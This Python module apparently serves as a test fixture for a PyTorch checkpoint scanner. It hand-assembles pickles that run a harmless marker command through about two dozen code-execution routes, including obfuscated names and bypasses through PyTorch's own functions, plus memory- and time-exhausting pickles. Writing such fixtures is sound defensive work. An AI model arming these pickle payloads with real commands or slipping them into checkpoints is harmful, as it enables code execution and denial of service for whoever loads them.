"""Pickles that a checkpoint should not hold: some would run code, some ask for too much.

They are assembled by hand, since no pickler writes them. A fragment is the bytes of a pickle that
push one value. `pickle_of(fragment)` is a whole pickle; `zip_file` and `legacy_file` are the two
containers that PyTorch has had.
"""

from __future__ import annotations

import contextlib
import copyreg
import io
import pickle
import struct
import zipfile
from collections.abc import Callable, Iterator, Mapping
from pathlib import Path

LEGACY_MAGIC = 0x1950A86A20F9469CFC6C
STORED = struct.pack("<2f", 1.5, -2.5)  # the bytes of the tensor below

# --- Fragments -------------------------------------------------------------------------------


def text(value: str) -> bytes:
    encoded = value.encode("utf-8", "surrogatepass")
    return pickle.BINUNICODE + struct.pack("<I", len(encoded)) + encoded


def number(value: int) -> bytes:
    """An integer, as long as it needs to be."""
    data = value.to_bytes(value.bit_length() // 8 + 1, "little", signed=True)
    return pickle.LONG1 + bytes([len(data)]) + data


def name(module: str, attribute: str) -> bytes:
    return pickle.GLOBAL + f"{module}\n{attribute}\n".encode()


def group(*items: bytes) -> bytes:
    """A tuple."""
    return pickle.MARK + b"".join(items) + pickle.TUPLE


def listed(*items: bytes) -> bytes:
    return pickle.EMPTY_LIST + pickle.MARK + b"".join(items) + pickle.APPENDS


def table(**items: bytes) -> bytes:
    """A dict."""
    pairs = b"".join(text(key) + value for key, value in items.items())
    return pickle.EMPTY_DICT + pickle.MARK + pairs + pickle.SETITEMS


def call(function: bytes, *arguments: bytes) -> bytes:
    return function + group(*arguments) + pickle.REDUCE


def inst(module: str, attribute: str, *arguments: bytes) -> bytes:
    """An object of an old class, as protocol 0 makes it: INST imports and calls at once."""
    return pickle.MARK + b"".join(arguments) + pickle.INST + f"{module}\n{attribute}\n".encode()


def obj(cls: bytes, *arguments: bytes) -> bytes:
    """The same in later protocols: the class lies on the stack, below its arguments."""
    return pickle.MARK + cls + b"".join(arguments) + pickle.OBJ


def storage(kind: str = "FloatStorage", key: str = "0", numel: int = 2) -> bytes:
    """What PyTorch has in the place of a storage, whose bytes are elsewhere in the file."""
    parts = (text("storage"), name("torch", kind), text(key), text("cpu"), number(numel))
    return group(*parts) + pickle.BINPERSID


def tensor(
    of: bytes | None = None,
    offset: bytes = number(0),
    shape: bytes = group(number(2)),
    stride: bytes = group(number(1)),
) -> bytes:
    """A tensor; of the numbers that are stored in every container here, if nothing else is said."""
    hooks = call(name("collections", "OrderedDict"))
    return call(
        name("torch._utils", "_rebuild_tensor_v2"),
        *(storage() if of is None else of, offset, shape, stride, pickle.NEWFALSE, hooks),
    )


# --- Containers ------------------------------------------------------------------------------


def pickle_of(fragment: bytes) -> bytes:
    return pickle.PROTO + b"\x04" + fragment + pickle.STOP


def zip_file(
    fragment: bytes,
    records: Mapping[str, bytes] | None = None,
    compression: int = zipfile.ZIP_STORED,
) -> bytes:
    """A checkpoint of PyTorch 1.6 and later, with storage "0"; `records` add to it, or replace."""
    content = {
        "data.pkl": pickle_of(fragment),
        "byteorder": b"little",
        "version": b"3\n",
        "data/0": STORED,
    } | dict(records or {})
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", compression) as archive:
        for path, data in content.items():
            archive.writestr(zipfile.ZipInfo(f"archive/{path}"), data, compression)  # no date
    return buffer.getvalue()


LEGACY_HEAD = (
    pickle.dumps(LEGACY_MAGIC, 2),
    pickle.dumps(1001, 2),
    pickle.dumps({"protocol_version": 1001, "little_endian": True}, 2),
)


def legacy_file(fragment: bytes, keys: tuple[str, ...] = ("0",)) -> bytes:
    """A checkpoint from before PyTorch 1.6."""
    return legacy_sections(*LEGACY_HEAD, pickle_of(fragment), pickle.dumps(list(keys), 2))


def legacy_sections(*pickles: bytes) -> bytes:
    return b"".join(pickles) + struct.pack("<q", 2) + STORED


CONTAINERS: dict[str, Callable[[bytes], bytes]] = {"zip": zip_file, "legacy": legacy_file}


# --- Code in fragments -----------------------------------------------------------------------
# Each leaves a file at `marker` when it is unpickled by Python.


def command(marker: Path) -> bytes:
    return text(f"echo > '{marker}'")


def statement(marker: Path) -> str:
    return f"open({str(marker)!r}, 'w').close()"


def by_os_system(marker: Path) -> bytes:
    return call(name("os", "system"), command(marker))


def by_popen(marker: Path) -> bytes:
    return call(name("subprocess", "check_call"), listed(text("touch"), text(str(marker))))


def by_eval(marker: Path) -> bytes:
    return call(name("builtins", "eval"), text(statement(marker)))


def by_exec(marker: Path) -> bytes:
    """By its name in Python 2, which counts in protocols below 3: a pickle may change its mind."""
    run = call(name("__builtin__", "exec"), text(statement(marker)))
    return pickle.PROTO + b"\x02" + run + pickle.PROTO + b"\x04"


def by_import_and_getattr(marker: Path) -> bytes:
    module = call(name("builtins", "__import__"), text("os"))
    return call(call(name("builtins", "getattr"), module, text("system")), command(marker))


def by_inst(marker: Path) -> bytes:
    return inst("os", "system", command(marker))


def by_obj(marker: Path) -> bytes:
    return obj(name("os", "system"), command(marker))


def by_newobj(marker: Path) -> bytes:
    """No function is called, only `tuple.__new__` of a `map`; which it goes through."""
    mapped = name("builtins", "map") + group(name("os", "system"), listed(command(marker)))
    return name("builtins", "tuple") + group(mapped + pickle.NEWOBJ) + pickle.NEWOBJ


def by_newobj_ex(marker: Path) -> bytes:
    mapped = call(name("builtins", "map"), name("os", "system"), listed(command(marker)))
    new = group(mapped) + pickle.EMPTY_DICT + pickle.NEWOBJ_EX
    return name("builtins", "frozenset") + new


def by_setstate(marker: Path) -> bytes:
    """BUILD sets an object's attributes, or calls its `__setstate__`: here first one, then both."""
    namespace = call(name("argparse", "Namespace"))
    state = table(__setstate__=name("os", "system"))
    return namespace + state + pickle.BUILD + command(marker) + pickle.BUILD


def by_runpy(marker: Path) -> bytes:
    script = marker.with_suffix(".py")
    script.write_text(statement(marker))
    return call(name("runpy", "run_path"), text(str(script)))


def by_copyreg(marker: Path) -> bytes:
    popen = name("subprocess", "Popen")
    arguments = listed(text("touch"), text(str(marker)))
    # The process is waited for: its file must be there when unpickling is over.
    process = call(name("copyreg", "_reconstructor"), popen, popen, arguments)
    return call(call(name("builtins", "getattr"), process, text("wait")))


EXTENSIONS = {
    0xE5: ("os", "system"),
    0xE5E5: ("posix", "system"),
    0x65E5E5E5: ("subprocess", "getoutput"),
}


@contextlib.contextmanager
def registered_extensions() -> Iterator[None]:
    """While this lasts, the codes stand for functions: a process may have its own."""
    for code, (module, function) in EXTENSIONS.items():
        copyreg.add_extension(module, function, code)
    try:
        yield
    finally:
        for code, (module, function) in EXTENSIONS.items():
            copyreg.remove_extension(module, function, code)


def by_extension(code: int) -> Callable[[Path], bytes]:
    """A registered code in the place of a name, in one, two or four bytes."""
    if code < 1 << 8:
        function = pickle.EXT1 + struct.pack("<B", code)
    elif code < 1 << 16:
        function = pickle.EXT2 + struct.pack("<H", code)
    else:
        function = pickle.EXT4 + struct.pack("<i", code)
    return lambda marker: call(function, command(marker))


def by_computed_name(marker: Path) -> bytes:
    """The words `os` and `system` are nowhere in the file."""
    words = [call(name("codecs", "decode"), text(word), text("rot13")) for word in ("bf", "flfgrz")]
    return call(b"".join(words) + pickle.STACK_GLOBAL, command(marker))


def by_dotted_name(marker: Path) -> bytes:
    """A module that every checkpoint names, and a way through what it happens to import."""
    path = text("torch._utils") + text("logging.os.system") + pickle.STACK_GLOBAL
    return call(path, command(marker))


def by_dotted_import(marker: Path) -> bytes:
    return call(
        call(name("torch._utils", "_import_dotted_name"), text("os.system")), command(marker)
    )


def by_rebuild_from_type(marker: Path) -> bytes:
    """One of PyTorch's own functions for tensors, which calls what it is given."""
    arguments = (name("os", "system"), name("torch", "Tensor"), group(command(marker)), pickle.NONE)
    return call(name("torch._tensor", "_rebuild_from_type_v2"), *arguments)


def by_hub(marker: Path) -> bytes:
    folder = marker.with_suffix("")
    folder = folder.with_name(f"{folder.name}_hub")
    folder.mkdir(exist_ok=True)
    (folder / "hubconf.py").write_text(f"def model():\n    {statement(marker)}\n")
    return call(name("torch.hub", "_load_local"), text(str(folder)), text("model"))


def by_collect_env(marker: Path) -> bytes:
    return call(name("torch.utils.collect_env", "run"), command(marker))


def by_nested_pickle(marker: Path) -> bytes:
    inner = pickle_of(by_os_system(marker))
    data = pickle.BINBYTES + struct.pack("<I", len(inner)) + inner
    return call(name("pickle", "loads"), data)


def by_load_from_bytes(marker: Path) -> bytes:
    """PyTorch's own way to unpickle a storage that is not in a container."""
    inner = legacy_file(by_os_system(marker), keys=())
    data = pickle.BINBYTES + struct.pack("<I", len(inner)) + inner
    return call(name("torch.storage", "_load_from_bytes"), data)


def by_ordered_dict(marker: Path) -> bytes:
    """A dict is admitted; its argument runs as it is gone through."""
    mapped = call(name("builtins", "map"), name("os", "system"), listed(command(marker)))
    pairs = call(name("builtins", "enumerate"), mapped)
    return call(name("collections", "OrderedDict"), pairs)


def by_persistent_id(marker: Path) -> bytes:
    """What names a storage is a pickle too."""
    kind = name("torch", "FloatStorage")
    location = by_os_system(marker) + pickle.POP + text("cpu")
    parts = (text("storage"), kind, text("0"), location, number(2))
    return group(*parts) + pickle.BINPERSID


def by_storage_type(marker: Path) -> bytes:
    parts = (text("storage"), by_os_system(marker), text("0"), text("cpu"), number(2))
    return group(*parts) + pickle.BINPERSID


def by_dict_key(marker: Path) -> bytes:
    return pickle.EMPTY_DICT + by_os_system(marker) + pickle.NONE + pickle.SETITEM


MALICIOUS: dict[str, Callable[[Path], bytes]] = {
    "os.system": by_os_system,
    "subprocess": by_popen,
    "eval": by_eval,
    "exec": by_exec,
    "import and getattr": by_import_and_getattr,
    "INST": by_inst,
    "OBJ": by_obj,
    "NEWOBJ": by_newobj,
    "NEWOBJ_EX": by_newobj_ex,
    "BUILD and __setstate__": by_setstate,
    "runpy": by_runpy,
    "copyreg": by_copyreg,
    **{f"extension {code:#x}": by_extension(code) for code in EXTENSIONS},
    "a computed name": by_computed_name,
    "a dotted name": by_dotted_name,
    "torch._utils._import_dotted_name": by_dotted_import,
    "torch._tensor._rebuild_from_type_v2": by_rebuild_from_type,
    "torch.hub": by_hub,
    "torch.utils.collect_env.run": by_collect_env,
    "a nested pickle": by_nested_pickle,
    "torch.storage._load_from_bytes": by_load_from_bytes,
    "OrderedDict": by_ordered_dict,
    "a persistent id": by_persistent_id,
    "a storage type": by_storage_type,
    "a key of a dict": by_dict_key,
}


# --- Too much --------------------------------------------------------------------------------
# Fragments that ask for memory or time out of all proportion.

MANY = 1_000_000


def shared_lists(levels: int, width: int) -> bytes:
    """A list of `width` times one list of `width` times one list ...: `width ** levels` leaves."""
    levels_of = [
        pickle.EMPTY_LIST
        + pickle.MARK
        + (pickle.BINGET + bytes([level - 1]) if level else pickle.NONE) * width
        + pickle.APPENDS
        + pickle.BINPUT
        + bytes([level])
        for level in range(levels)
    ]
    return listed(*levels_of)


def repeated_call(function: bytes, arguments: bytes) -> bytes:
    """A call with arguments that are remembered, again and again."""
    once = pickle.BINGET + b"\0" + pickle.BINGET + b"\1" + pickle.REDUCE
    return function + b"q\0" + arguments + b"q\1" + once * (MANY // 5)


GREEDY: dict[str, Callable[[], bytes]] = {
    "lists": lambda: pickle.EMPTY_LIST * MANY,
    "dicts": lambda: pickle.EMPTY_DICT * MANY,
    "sets": lambda: pickle.EMPTY_SET * MANY,
    "marks": lambda: pickle.MARK * MANY,
    "memo": lambda: pickle.EMPTY_LIST + pickle.MEMOIZE * MANY,
    "dicts in the memo": lambda: (pickle.EMPTY_DICT + pickle.MEMOIZE) * MANY,
    "tuples in tuples": lambda: pickle.NONE + pickle.TUPLE1 * MANY,
    "one long dict": lambda: pickle.EMPTY_DICT + b"NNs" * MANY,
    "short dicts": lambda: (pickle.EMPTY_DICT + b"NNs") * MANY,
    "wide text": lambda: (pickle.SHORT_BINUNICODE + b"\x04\xf0\x9f\x98\x80") * MANY,
    "long numbers": lambda: (pickle.LONG1 + b"\xff" + b"a" * 255) * (MANY // 5),
    "globals": lambda: b"".join(name("a" * 150, f"{n:0199}") for n in range(MANY // 10)),
    "calls": lambda: repeated_call(name("os", "system"), pickle.EMPTY_TUPLE),
    "calls with many arguments": lambda: repeated_call(
        name("os", "system"), pickle.MARK + pickle.NONE * 200_000 + pickle.TUPLE
    ),
    "dicts of many pairs": lambda: repeated_call(
        name("collections", "OrderedDict"), group(listed(b"NN\x86" * 100_000))
    ),
    "tensors": lambda: repeated_call(
        name("torch._utils", "_rebuild_tensor"),
        group(storage(), number(0), group(number(2)), group(number(1))),
    ),
    "leaves in shared lists": lambda: shared_lists(12, 100),
    "tensors in shared lists": lambda: shared_lists(12, 100).replace(
        pickle.NONE * 100, tensor() * 2, 1
    ),
    "empty lists in shared lists": lambda: shared_lists(12, 100).replace(
        pickle.NONE * 100, pickle.EMPTY_LIST, 1
    ),
    "long keys": lambda: (
        tensor()
        + pickle.BINPUT
        + b"\0"
        + pickle.EMPTY_DICT
        + b"".join(text(f"{n:0490}") + b"h\0s" for n in range(MANY // 10))
    ),
    "a list in itself": lambda: pickle.EMPTY_LIST + b"q\0h\0a",
    "a dict in itself": lambda: pickle.EMPTY_DICT + b"q\0" + text("a") + b"h\0s",
    "lists in lists": lambda: pickle.EMPTY_LIST * 1000 + pickle.APPEND * 999,
    "a long decimal": lambda: pickle.INT + b"9" * MANY + b"\n",
    "a claimed string": lambda: pickle.BINUNICODE8 + struct.pack("<Q", 1 << 33),
    "claimed bytes": lambda: pickle.BINBYTES8 + struct.pack("<Q", 1 << 62),
    "claimed bytearray": lambda: pickle.BYTEARRAY8 + struct.pack("<Q", (1 << 64) - 1),
    "a claimed number": lambda: pickle.LONG4 + struct.pack("<I", 0x7FFFFFFF),
    "a claimed memo": lambda: pickle.NONE + pickle.LONG_BINPUT + struct.pack("<I", 0xFFFFFFFF),
    "a claimed frame": lambda: pickle.FRAME + struct.pack("<Q", 1 << 40),
}
